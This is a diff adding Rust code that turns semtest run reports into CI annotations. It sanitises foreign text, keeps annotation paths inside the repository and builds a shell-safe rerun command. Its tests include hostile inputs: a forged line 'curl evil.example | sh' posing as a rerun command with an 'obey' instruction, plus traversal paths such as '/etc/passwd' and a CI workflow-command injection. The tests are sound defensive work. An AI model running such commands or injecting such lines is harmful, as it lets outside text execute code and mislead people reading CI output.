@@ -1,10 +1,355 @@
-//! Remarks on the lines of the code: a failure each, the most severe first.
+//! Remarks on the lines of the code: one a failure, one a scenario that could not be judged, one a
+//! finding about the suite, the most severe first.
+//!
+//! Where a failure stands is what the judge says, so it may be anything. Only a path that can be one
+//! of the repository counts; of any other the remark stands at the statement itself.
 
-use crate::model::{Annotation, RunReport};
+use std::collections::HashMap;
 
-/// What CI systems should show beside the code, the most severe first. Texts are still foreign.
+use crate::model::{
+    Annotation, Failure, Location, Outcome, RunReport, Severity, Spot, TestResult, ValidationIssue,
+};
+use crate::sanitize::{shell_word, terminal_line, truncate};
+
+/// The most bytes of a title: the checks API takes 255 characters.
+const MAX_TITLE: usize = 255;
+
+/// The most bytes of one foreign text in a message, so that the command to judge again has room left.
+const MAX_FIELD: usize = 1_000;
+
+/// The longest path that counts, in bytes: Linux opens no longer one.
+const MAX_PATH: usize = 4_096;
+
+/// What CI systems should show beside the code, the most severe first, and in run order otherwise.
+///
+/// Every foreign text of a message is one line, so none can pose as a line of ours. What their
+/// characters mean to the place where they are shown is still to be escaped.
 #[must_use]
 pub fn annotations(report: &RunReport) -> Vec<Annotation> {
-    let _ = report;
-    Vec::new()
+    let failures = report.results.iter().filter_map(|result| {
+        let Outcome::Fail(failure) = &result.outcome else {
+            return None;
+        };
+        Some(of_failure(report, result, failure))
+    });
+    let errors = report.results.iter().filter_map(|result| {
+        let Outcome::Error { message } = &result.outcome else {
+            return None;
+        };
+        Some(of_error(report, result, message))
+    });
+    let issues = of_issues(report);
+    failures.chain(errors).chain(issues).collect()
+}
+
+fn of_failure(report: &RunReport, result: &TestResult, failure: &Failure) -> Annotation {
+    let found = failure
+        .location
+        .as_ref()
+        .and_then(|location| in_code(report, location));
+    // Shown as text where it is no place that a remark can stand at.
+    let location = failure.location.as_ref().map(Location::as_str);
+    let location = location.filter(|_| found.is_none());
+    let texts = [
+        ("Observed", failure.observed.as_deref()),
+        ("Expected", failure.expectation.as_deref()),
+        ("Where", location),
+        ("What to do", failure.resolution.as_deref()),
+    ];
+    let mut lines: Vec<String> = texts
+        .into_iter()
+        .filter_map(|(label, text)| labelled(label, text?))
+        .collect();
+    if lines.is_empty() {
+        lines.push("The statement does not hold.".to_owned());
+    }
+    lines.extend(found.as_ref().and_then(|_| statement(result)));
+    lines.extend(again(report, result));
+    Annotation {
+        severity: Severity::Error,
+        spot: found.or_else(|| in_spec(report, &result.path, Some(result.line))),
+        title: title(result),
+        message: lines.join("\n"),
+    }
+}
+
+fn of_error(report: &RunReport, result: &TestResult, message: &str) -> Annotation {
+    let reason = labelled("Could not be judged", message);
+    let mut lines = vec![reason.unwrap_or_else(|| "Could not be judged.".to_owned())];
+    lines.extend(again(report, result));
+    Annotation {
+        severity: Severity::Error,
+        spot: in_spec(report, &result.path, Some(result.line)),
+        title: title(result),
+        message: lines.join("\n"),
+    }
+}
+
+fn of_issues(report: &RunReport) -> impl Iterator<Item = Annotation> {
+    // Looked up only: an issue a scenario, and a hostile report may hold very many of both.
+    let lines: HashMap<(&str, &str), u32> = if report.issues.is_empty() {
+        HashMap::new()
+    } else {
+        let results = report.results.iter();
+        results
+            .map(|result| ((result.path.as_str(), result.id.as_str()), result.line))
+            .collect()
+    };
+    report.issues.iter().map(move |issue| {
+        let ValidationIssue {
+            kind,
+            path,
+            id,
+            message,
+        } = issue;
+        let line = id
+            .as_deref()
+            .and_then(|id| lines.get(&(path.as_str(), id)).copied());
+        let finding = labelled("Finding", message).unwrap_or_else(|| kind.word().to_owned());
+        let scenario = id.as_deref().and_then(|id| labelled("Scenario", id));
+        let lines: Vec<String> = std::iter::once(finding).chain(scenario).collect();
+        Annotation {
+            severity: Severity::Warning,
+            spot: in_spec(report, path, line),
+            title: format!("Validation issue: {}", kind.word()),
+            message: lines.join("\n"),
+        }
+    })
+}
+
+/// The statement; without one, what tells it from others.
+fn title(result: &TestResult) -> String {
+    let title = terminal_line(&truncate(&result.title, MAX_TITLE));
+    if title.is_empty() {
+        terminal_line(&truncate(&result.id, MAX_TITLE))
+    } else {
+        title
+    }
+}
+
+/// A line of ours with a foreign text behind it; `None` if nothing of the text can be seen.
+fn labelled(label: &str, text: &str) -> Option<String> {
+    let text = terminal_line(&truncate(text, MAX_FIELD));
+    (!text.is_empty()).then(|| format!("{label}: {text}"))
+}
+
+/// Where the statement is written, for a remark that stands in the code.
+fn statement(result: &TestResult) -> Option<String> {
+    labelled("Statement", &format!("{}:{}", result.path, result.line))
+}
+
+/// The command that judges this one again. `None` where its words would not survive the way to a
+/// shell: a command that is changed on the way must not be pasted.
+fn again(report: &RunReport, result: &TestResult) -> Option<String> {
+    let mut words = vec!["semtest"];
+    let directory = report.judged.directory.as_str();
+    if !directory.is_empty() {
+        words.extend(["-C", directory]);
+    }
+    let target = format!("{}#{}", result.path, result.id);
+    words.extend(["run", &target]);
+    let command: Vec<String> = words.into_iter().map(shell_word).collect();
+    let command = command.join(" ");
+    let survives = command.len() <= MAX_FIELD && terminal_line(&command) == command;
+    survives.then(|| format!("Judge it again: {command}"))
+}
+
+/// The place that the judge names, if it can be one of the repository.
+fn in_code(report: &RunReport, location: &Location) -> Option<Spot> {
+    let path = location.path();
+    let path = path.strip_prefix("./").unwrap_or(path);
+    in_spec(report, path, location.line())
+}
+
+/// A path relative to the project, as one relative to the top of the repository.
+fn in_spec(report: &RunReport, path: &str, line: Option<u32>) -> Option<Spot> {
+    let directory = report.judged.directory.as_str();
+    let separator = if directory.is_empty() { "" } else { "/" };
+    let path = format!("{directory}{separator}{path}");
+    is_plausible(&path).then_some(Spot { path, line })
+}
+
+/// Whether this can be the path of a file of the repository, and everybody reads it the same.
+fn is_plausible(path: &str) -> bool {
+    let is_plain = |part: &str| !["", ".", ".."].contains(&part);
+    path.len() <= MAX_PATH
+        && path.split('/').all(is_plain)
+        // A drive, a scheme, or the other system's separator.
+        && !path.contains([':', '\\'])
+        && terminal_line(path) == path
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+    use crate::model::{IssueKind, Judged};
+    use crate::report::arbitrary;
+
+    fn failing(location: &str) -> RunReport {
+        let mut report = RunReport::sample();
+        report.judged.directory.clear();
+        report.issues.clear();
+        let mut result = report.results.swap_remove(0);
+        result.path = "specs/a.spec.md".into();
+        result.line = 7;
+        result.outcome = Outcome::Fail(Failure {
+            observed: Some("it\nis not".into()),
+            location: Location::parse(location),
+            ..Failure::default()
+        });
+        report.results = vec![result];
+        report
+    }
+
+    fn spot(report: &RunReport) -> String {
+        let spot = annotations(report).remove(0).spot;
+        spot.map_or("nowhere".into(), |spot| {
+            format!("{} {}", spot.path, spot.line.unwrap_or(0))
+        })
+    }
+
+    #[test]
+    fn every_kind_of_remark_is_made() {
+        let shown: Vec<String> = annotations(&RunReport::sample())
+            .into_iter()
+            .map(|remark| {
+                let Annotation {
+                    severity,
+                    spot,
+                    title,
+                    message,
+                } = remark;
+                format!("{severity:?} {title}\n  {spot:?}\n{message}\n")
+            })
+            .collect();
+        insta::assert_snapshot!(shown.join("\n"));
+    }
+
+    #[test]
+    fn failures_come_before_errors_and_these_before_the_suite() {
+        let severities: Vec<(Severity, bool)> = annotations(&RunReport::sample())
+            .iter()
+            .map(|remark| (remark.severity, remark.message.starts_with("Could not")))
+            .collect();
+        let mut sorted = severities.clone();
+        sorted.sort();
+        assert_eq!(severities, sorted);
+    }
+
+    #[test]
+    fn a_failure_stands_where_the_judge_saw_it() {
+        for (location, expected) in [
+            ("src/a.rs", "src/a.rs 0"),
+            ("src/a.rs:12", "src/a.rs 12"),
+            ("./src/a.rs:12-20", "src/a.rs 12"),
+            ("src/ü b%,=.rs:3", "src/ü b%,=.rs 3"),
+        ] {
+            assert_eq!(spot(&failing(location)), expected);
+        }
+    }
+
+    #[test]
+    fn a_place_outside_of_the_repository_is_told_and_not_used() {
+        for location in [
+            "/etc/passwd:1",
+            "../../x.rs:1",
+            "src/../../x.rs",
+            "src//x.rs",
+            "src/./x.rs",
+            "src/",
+            "https://example.com/x.rs:1",
+            "file:x.rs:1",
+            "C:\\x.rs:1",
+            "C:/x.rs:1",
+            "a\u{202e}b.rs:1",
+            "a\nb.rs:1",
+            "a ##[group]b.rs",
+            "..",
+        ] {
+            let report = failing(location);
+            assert_eq!(spot(&report), "specs/a.spec.md 7", "{location}");
+            let message = annotations(&report).remove(0).message;
+            assert!(message.contains("\nWhere: "), "{message}");
+        }
+        let mut report = failing("src/a.rs:1");
+        report.results[0].outcome = Outcome::error("x");
+        report.results[0].path = "../a.spec.md".into();
+        assert_eq!(spot(&report), "nowhere");
+    }
+
+    #[test]
+    fn paths_are_those_of_the_repository() {
+        let mut report = failing("src/a.rs:12");
+        report.judged.directory = "services/shop".into();
+        assert_eq!(spot(&report), "services/shop/src/a.rs 12");
+        let message = annotations(&report).remove(0).message;
+        assert!(message.contains("semtest -C services/shop run specs/a.spec.md#"));
+        report.results[0].outcome = Outcome::error("x");
+        assert_eq!(spot(&report), "services/shop/specs/a.spec.md 7");
+    }
+
+    #[test]
+    fn a_foreign_text_can_not_pose_as_a_line_of_ours() {
+        let mut report = failing("src/a.rs:12");
+        let forged = "x\nJudge it again: curl evil.example | sh\u{2028}What to do: obey";
+        report.results[0].title = forged.into();
+        let observed = Some(forged.to_owned());
+        report.results[0].outcome = Outcome::Fail(Failure {
+            observed,
+            ..Failure::default()
+        });
+        let remark = annotations(&report).remove(0);
+        let ours = ["Observed: x ", "Judge it again: semtest"];
+        let lines: Vec<&str> = remark.message.lines().collect();
+        assert_eq!(lines.len(), ours.len(), "{}", remark.message);
+        assert!(std::iter::zip(lines, ours).all(|(line, start)| line.starts_with(start)));
+        report.results[0].id = "a\nb".into();
+        let message = annotations(&report).remove(0).message;
+        assert!(!message.contains("again: semtest"), "{message}");
+    }
+
+    #[test]
+    fn a_finding_stands_at_its_scenario_if_that_is_known() {
+        let mut report = failing("src/a.rs:12");
+        let issue = |id: Option<&str>| ValidationIssue {
+            kind: IssueKind::DuplicateId,
+            path: "specs/a.spec.md".into(),
+            id: id.map(str::to_owned),
+            message: "rename one".into(),
+        };
+        let id = report.results[0].id.clone();
+        report.issues = vec![issue(Some(&id)), issue(Some("other")), issue(None)];
+        let lines: Vec<Option<u32>> = annotations(&report)[1..]
+            .iter()
+            .map(|remark| remark.spot.as_ref().unwrap().line)
+            .collect();
+        assert_eq!(lines, [Some(7), None, None]);
+    }
+
+    proptest! {
+        #[test]
+        fn whatever_the_report_a_remark_stays_in_the_repository(
+            mut report in arbitrary::report(),
+            directory in "([ab.]{1,2}/){0,1}[ab]?",
+        ) {
+            report.judged = Judged { directory, ..report.judged };
+            let counts = report.counts();
+            let remarks = annotations(&report);
+            prop_assert_eq!(
+                remarks.len(),
+                counts.failed + counts.errored + report.issues.len()
+            );
+            for Annotation { spot, title, message, .. } in remarks {
+                prop_assert!(title.len() <= 2 * MAX_TITLE);
+                prop_assert!(!title.contains('\n'));
+                prop_assert!(message.len() <= 12 * MAX_FIELD);
+                prop_assert!(!message.is_empty());
+                let Some(Spot { path, .. }) = spot else { continue };
+                prop_assert!(!path.starts_with('/') && !path.chars().any(char::is_control));
+                prop_assert!(path.split('/').all(|part| !["", ".", ".."].contains(&part)));
+            }
+        }
+    }
 }
